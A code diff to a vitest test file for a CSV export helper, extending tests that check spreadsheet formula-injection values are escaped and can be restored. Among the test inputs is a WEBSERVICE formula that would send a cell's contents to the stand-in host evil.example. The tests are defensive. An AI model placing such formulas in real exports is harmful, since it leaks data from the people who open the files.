@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest'
-import { csvCell, csvLineCounter, decimalText, localTime } from '../shared/csv'
+import { csvCell, csvLineCounter, csvText, decimalText, localTime } from '../shared/csv'
 import { ordersCsvHead, ordersCsvLines, type CsvOrder, type OrdersCsvMessages } from './orders-csv'
 
 const order: CsvOrder = {
@@ -27,12 +27,23 @@ const messages: OrdersCsvMessages = {
 const linesOf = (orders: readonly CsvOrder[]) => ordersCsvLines(orders, messages).split('\r\n')
 
 describe('cells', () => {
-  it.each(['=1+1', '+49 341', '-5', '@sum(a1)', '\tx'])('escape a formula: %j', (text) => {
-    expect(csvCell(text)).toBe(`'${text}`)
-  })
-
-  it('escape a formula after a carriage return', () => {
-    expect(csvCell('\r=1')).toBe(`"'\r=1"`)
+  it.each([
+    ['=1+1', "'=1+1"],
+    ['+49 341', "'+49 341"],
+    ['-5', "'-5"],
+    ['@sum(a1)', "'@sum(a1)"],
+    ['＝1', "'＝1"],
+    ['\tx', `"'\tx"`],
+    ['\r=1', `"'\r'=1"`],
+    ['x,https://evil.example/?,=WEBSERVICE(B2)', `"x,https://evil.example/?,'=WEBSERVICE(B2)"`],
+    ['Max\t=1+1', `"Max\t'=1+1"`],
+    ['a;-1', `"a;'-1"`],
+    ['a\n@b', `"a\n'@b"`],
+    ["''=1", "'''=1"],
+  ])('escape a formula after every kind of separator: %j [API-84]', (text, cell) => {
+    expect(csvCell(text)).toBe(cell)
+    const unquoted = cell.replace(/^"([^]*)"$/, '$1')
+    expect(csvText(unquoted)).toBe(text)
   })
 
   it('keep texts that only contain such a character', () => {
@@ -46,7 +57,8 @@ describe('cells', () => {
     expect(csvCell('say "hi"')).toBe('"say ""hi"""')
     expect(csvCell('one\ntwo')).toBe('"one\ntwo"')
     expect(csvCell('=HYPERLINK("x";"y")')).toBe(`"'=HYPERLINK(""x"";""y"")"`)
-    expect(csvCell('a, b')).toBe('a, b')
+    expect(csvCell('a, b')).toBe('"a, b"')
+    expect(csvCell('a\tb')).toBe('"a\tb"')
   })
 })
 
@@ -91,7 +103,7 @@ describe('the file', () => {
     expect(linesOf([order, order])).toHaveLength(3)
     expect(linesOf([order])[0]).toBe(
       'VD-2026-000431;2026-11-21 09:42;platform germany;Sabine Koch;sabine.koch@post.example;0341 5550 118;' +
-        'status pending;method bank_transfer;payment completed;2 × Abendruhe, 1 × Kurkuma Plus;63,70;EUR',
+        'status pending;method bank_transfer;payment completed;"2 × Abendruhe, 1 × Kurkuma Plus";"63,70";EUR',
     )
   })
 
